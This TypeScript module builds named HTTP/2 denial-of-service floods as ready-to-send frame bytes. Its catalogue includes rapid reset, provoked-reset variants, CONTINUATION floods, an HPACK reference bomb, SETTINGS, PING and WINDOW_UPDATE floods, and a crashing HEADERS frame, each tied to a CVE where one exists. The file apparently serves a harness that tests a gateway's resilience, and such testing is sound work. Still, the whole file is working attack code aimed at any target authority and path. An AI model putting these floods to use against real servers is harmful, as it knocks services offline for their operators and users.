/**
 * The floods of HTTP/2 that are known by name, as bytes: what is said first on a connection, and then again and again.
 *
 * Each piece holds hundreds of frames, so that they come in few reads, as an attacker sends them. Headers are said by
 * index after the first request: nine bytes of frame and four of headers are a request.
 */
import {
  block,
  continuation,
  data,
  dependsOn,
  endHeaders,
  endStream,
  entries,
  frame,
  goAway,
  headers,
  indexed,
  inserted,
  literal,
  ping,
  preface,
  priority,
  reset,
  settings,
  tableSize,
  windowUpdate,
  word,
} from './http2-frames.ts'

export interface Flood {
  /** The advisory, where it has one. */
  readonly known?: string
  /** Behind the preface. */
  readonly first?: (to: Target) => Buffer
  /** The n-th piece. */
  readonly next: (n: number, to: Target) => Buffer
  /** What the gateway sends is left unread. */
  readonly deaf?: boolean
  /** The connection is cut behind each piece and opened anew. */
  readonly cut?: boolean
}

export interface Target {
  readonly authority: string
  readonly path: string
}

const together = 200
const clientWindow = 4
const streamOf = (n: number): number => 2 * n + 1

/** The first request puts its headers into the table, the others name them. */
const opening = ({ authority, path }: Target): Buffer =>
  Buffer.concat([indexed(2), indexed(7), inserted(':path', path), inserted(':authority', authority)])
const again = Buffer.concat([indexed(2), indexed(7), indexed(63), indexed(62)])
const post = Buffer.concat([indexed(3), indexed(7), indexed(63), indexed(62)])
const first = (to: Target): Buffer => frame(headers, endHeaders | endStream, 1, opening(to))
const handshake = Buffer.concat([
  ...[literal(':method', 'CONNECT'), literal(':protocol', 'websocket'), indexed(7), indexed(63), indexed(62)],
  literal('sec-websocket-version', '13'),
])

const many = (n: number, count: number, one: (stream: number, at: number) => readonly Buffer[]): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, at) => one(streamOf(1 + n * count + at), at)).flat())

const request = (stream: number): Buffer => frame(headers, endHeaders | endStream, stream, again)
const upload = (stream: number): Buffer => frame(headers, endHeaders, stream, post)
const resetOf = (stream: number, code = 8): Buffer => frame(reset, 0, stream, word(code))

/** A request, and something that makes the server reset it. */
const provoked = (wrong: (stream: number) => readonly Buffer[]): Flood => ({
  known: 'CVE-2025-8671',
  first,
  next: n => many(n, together, stream => [request(stream), ...wrong(stream)]),
})
const repeated = (one: Buffer, known?: string): Flood => ({
  ...(known === undefined ? {} : { known }),
  first,
  next: () => Buffer.concat(Array.from({ length: 1_000 }, () => one)),
})

const large = 'x'.repeat(4_000)

export const floods = {
  'rapid reset': {
    known: 'CVE-2023-44487',
    first,
    next: n => many(n, together, stream => [request(stream), resetOf(stream)]),
  },
  'rapid reset, all opened before any is reset': {
    known: 'CVE-2023-44487',
    first,
    next: n =>
      Buffer.concat([many(n, together, stream => [request(stream)]), many(n, together, stream => [resetOf(stream)])]),
  },
  'rapid reset without an error': {
    known: 'CVE-2023-44487',
    first,
    next: n => many(n, together, stream => [request(stream), resetOf(stream, 0)]),
  },
  'rapid reset of uploads': {
    known: 'CVE-2023-44487',
    first,
    next: n => many(n, together, stream => [upload(stream), resetOf(stream)]),
  },
  'handshakes of WebSockets that are taken back': {
    known: 'CVE-2023-44487',
    first,
    next: n => many(n, together, stream => [frame(headers, endHeaders, stream, handshake), resetOf(stream)]),
  },
  'made to reset by a window update of 0': provoked(stream => [frame(windowUpdate, 0, stream, word(0))]),
  'made to reset by a window that overflows': provoked(stream => [
    frame(windowUpdate, 0, stream, word(2 ** 31 - 1)),
    frame(windowUpdate, 0, stream, word(2 ** 31 - 1)),
  ]),
  'made to reset by DATA behind the end': provoked(stream => [frame(data, 0, stream, Buffer.of(1))]),
  'made to reset by HEADERS behind the end': provoked(stream => [
    frame(headers, endHeaders | endStream, stream, literal('x', 'y')),
  ]),
  'made to reset by a stream that depends on itself': provoked(stream => [
    frame(priority, 0, stream, dependsOn(stream)),
  ]),
  'made to reset by PRIORITY of a wrong size': provoked(stream => [frame(priority, 0, stream, Buffer.alloc(4))]),
  'made to reset by a frame that is too large': provoked(stream => [
    frame(windowUpdate, 0, stream, Buffer.alloc(20_000)),
  ]),
  'made to reset by a body that is too long': {
    known: 'CVE-2025-8671',
    first,
    next: n =>
      many(n, together, stream => [
        frame(headers, endHeaders, stream, Buffer.concat([post, literal('content-length', '1')])),
        frame(data, endStream, stream, Buffer.of(1, 2)),
      ]),
  },
  'made to reset by a malformed request': {
    known: 'CVE-2025-8671',
    first,
    next: n =>
      many(n, together, stream => [
        frame(headers, endHeaders | endStream, stream, Buffer.concat([again, literal('Connection', 'x')])),
      ]),
  },
  'CONTINUATION without end': {
    known: 'CVE-2024-27983',
    first: to => Buffer.concat([first(to), frame(headers, endStream, 3, again)]),
    next: () => Buffer.concat(Array.from({ length: 200 }, () => frame(continuation, 0, 3, block([['x-a', 'b']])))),
  },
  'CONTINUATION that is empty': {
    known: 'CVE-2024-27983',
    first: to => Buffer.concat([first(to), frame(headers, endStream, 3, again)]),
    next: () => Buffer.concat(Array.from({ length: 1_000 }, () => frame(continuation, 0, 3))),
  },
  'CONTINUATION on a connection that is cut': {
    known: 'CVE-2024-27983',
    first: to => Buffer.concat([first(to), frame(headers, endStream, 3, again)]),
    next: () => Buffer.concat(Array.from({ length: 3 }, () => frame(continuation, 0, 3, block([['x-a', 'b']])))),
    cut: true,
  },
  'a bomb of references to one large header': {
    first: to =>
      Buffer.concat([
        first(to),
        frame(headers, endHeaders | endStream, 3, Buffer.concat([again, inserted('x', large)])),
      ]),
    // The newest entry is the large one now: the two of the request have moved up by one.
    next: n =>
      Buffer.concat(
        Array.from({ length: 4 }, (_, at) => {
          const named = Buffer.concat([indexed(2), indexed(7), indexed(64), indexed(63)])
          const references = Array.from({ length: 16_000 }, () => indexed(62))
          return frame(headers, endHeaders | endStream, streamOf(2 + n * 4 + at), Buffer.concat([named, ...references]))
        }),
      ),
  },
  'headers over the limit of their count': {
    first,
    next: n =>
      many(n, 8, stream => [
        frame(
          headers,
          endHeaders | endStream,
          stream,
          Buffer.concat([again, ...Array.from({ length: 2_000 }, () => literal('x', ''))]),
        ),
      ]),
  },
  'headers over the limit of their size': {
    first,
    next: n =>
      many(n, 4, stream => [
        frame(headers, endStream, stream, again),
        ...Array.from({ length: 5 }, () => frame(continuation, 0, stream, literal('x', 'y'.repeat(16_000)))),
        frame(continuation, endHeaders, stream),
      ]),
  },
  'table sizes that change without end': {
    first,
    next: n =>
      many(n, 4, stream => [
        frame(
          headers,
          endHeaders | endStream,
          stream,
          Buffer.concat([...Array.from({ length: 4_000 }, (_, at) => tableSize(at % 2 === 0 ? 0 : 4_096)), again]),
        ),
      ]),
  },
  SETTINGS: repeated(frame(settings, 0, 0, entries([clientWindow, 65_535]))),
  'SETTINGS that changes all windows': {
    first: to =>
      Buffer.concat([
        frame(settings, 0, 0, entries([clientWindow, 0])),
        first(to),
        many(0, 190, stream => [request(stream)]),
      ]),
    next: n =>
      Buffer.concat(
        Array.from({ length: 1_000 }, (_, at) => frame(settings, 0, 0, entries([clientWindow, (n + at) % 2]))),
      ),
  },
  'SETTINGS with many entries': repeated(
    frame(settings, 0, 0, entries(...Array.from({ length: 30 }, () => [clientWindow, 65_535] as const))),
  ),
  'SETTINGS of new tables': {
    first,
    next: n =>
      Buffer.concat(Array.from({ length: 1_000 }, (_, at) => frame(settings, 0, 0, entries([1, (n + at) % 4_096])))),
  },
  'acknowledgements of SETTINGS': repeated(frame(settings, 0x1, 0)),
  PING: repeated(frame(ping, 0, 0, Buffer.alloc(8))),
  'PING unread': { ...repeated(frame(ping, 0, 0, Buffer.alloc(8))), deaf: true },
  'SETTINGS unread': { ...repeated(frame(settings, 0, 0)), deaf: true },
  'acknowledgements of PING': repeated(frame(ping, 0x1, 0, Buffer.alloc(8))),
  'RST_STREAM of closed streams': {
    first: to => Buffer.concat([first(to), resetOf(1)]),
    next: () => Buffer.concat(Array.from({ length: 1_000 }, () => resetOf(1))),
  },
  PRIORITY: { first, next: n => many(n, 1_000, stream => [frame(priority, 0, stream, dependsOn(0))]) },
  'empty DATA': {
    first: to => Buffer.concat([first(to), upload(3)]),
    next: () => Buffer.concat(Array.from({ length: 1_000 }, () => frame(data, 0, 3))),
  },
  'DATA of one byte': {
    first: to => Buffer.concat([first(to), upload(3)]),
    next: () => Buffer.concat(Array.from({ length: 1_000 }, () => frame(data, 0, 3, Buffer.of(1)))),
  },
  'WINDOW_UPDATE of one byte': repeated(frame(windowUpdate, 0, 0, word(1))),
  'WINDOW_UPDATE of closed streams': repeated(frame(windowUpdate, 0, 1, word(1))),
  'WINDOW_UPDATE over the largest window': {
    known: 'CVE-2026-21714',
    first,
    next: () => Buffer.concat(Array.from({ length: 100 }, () => frame(windowUpdate, 0, 0, word(2 ** 31 - 1)))),
  },
  'WINDOW_UPDATE of nothing': repeated(frame(windowUpdate, 0, 0, word(0))),
  'frames of no known kind': repeated(frame(0x77, 0, 0, Buffer.alloc(8))),
  'GOAWAY again and again': repeated(frame(goAway, 0, 0, Buffer.alloc(8))),
  'GOAWAY, and requests all the same': {
    first: to => Buffer.concat([first(to), frame(goAway, 0, 0, Buffer.alloc(8))]),
    next: n => many(n, together, stream => [request(stream)]),
  },
  'requests unread': { first, next: n => many(n, together, stream => [request(stream)]), deaf: true },
  'requests over the limit': { first, next: n => many(n, together, stream => [request(stream)]) },
  'HEADERS that crash': {
    known: 'CVE-2025-59465',
    next: () => frame(headers, endHeaders | endStream, 1, Buffer.from('ffffffffffff', 'hex')),
    cut: true,
  },
} as const satisfies Readonly<Record<string, Flood>>

export type FloodName = keyof typeof floods

export const begins = (flood: Flood, to: Target, window = 65_535): Buffer =>
  Buffer.concat([
    Buffer.from(preface),
    frame(settings, 0, 0, entries([clientWindow, window])),
    ...(flood.first === undefined ? [] : [flood.first(to)]),
  ])
